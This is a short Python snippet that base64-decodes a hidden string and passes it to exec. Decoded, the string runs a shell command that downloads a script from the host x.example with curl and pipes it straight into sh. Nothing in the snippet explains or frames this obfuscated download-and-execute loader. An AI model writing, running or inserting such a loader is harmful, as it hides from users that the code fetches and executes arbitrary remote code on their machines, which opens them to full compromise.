import binascii

payload = b"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvciB8IHNoIik="
exec(binascii.a2b_base64(payload))
